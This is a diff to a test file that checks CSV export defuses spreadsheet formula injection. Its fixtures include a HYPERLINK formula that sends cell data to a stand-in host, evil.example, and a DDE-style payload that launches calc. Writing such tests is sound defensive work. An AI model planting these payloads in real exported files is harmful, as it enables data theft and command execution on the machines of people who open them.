@@ -1,9 +1,7 @@
-import { readFileSync } from 'node:fs';
-import { join } from 'node:path';
 import { afterEach, expect, test } from 'vitest';
-import { exportVersionCsv } from '../../../electron/exporting/csv-export';
+import { exportedFile } from '../../support/export-file';
 import { makeVersion } from '../../support/make-version';
-import { openTestWorkspace, tempDir, type TestWorkspace } from '../../support/temp-workspace';
+import { openTestWorkspace, type TestWorkspace } from '../../support/temp-workspace';
 
 let ws: TestWorkspace;
 afterEach(async () => ws?.close());
@@ -26,10 +24,8 @@ test('CSV export neutralises formula-like cells; numbers in numeric columns stay
     ],
     rows: hostileRows,
   });
-  const { dir, cleanup } = tempDir();
-  const out = join(dir, 'export.csv');
-  await exportVersionCsv(ws.host.services.db, versionId, out, { raw: false });
-  expect(readFileSync(out, 'utf8').split('\r\n')).toEqual([
+  const csv = async (raw: boolean) => (await exportedFile(ws.host, ws.admin, 1, versionId, 'csv', raw)).body.toString('utf8').split('\r\n');
+  expect(await csv(false)).toEqual([
     "'=Libellé,Montant,Note",
     `"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")",-5,'+33 1 23 45 67 89`,
     "'@SUM(1+1)*cmd|' /C calc'!A0,12.5,'-2+3",
@@ -37,7 +33,5 @@ test('CSV export neutralises formula-like cells; numbers in numeric columns stay
     'Lyon,3,ordinaire',
     '',
   ]);
-  await exportVersionCsv(ws.host.services.db, versionId, out, { raw: true });
-  expect(readFileSync(out, 'utf8').split('\r\n')[1]).toBe(`"=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")",-5,+33 1 23 45 67 89`);
-  cleanup();
+  expect((await csv(true))[1]).toBe(`"=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")",-5,+33 1 23 45 67 89`);
 });
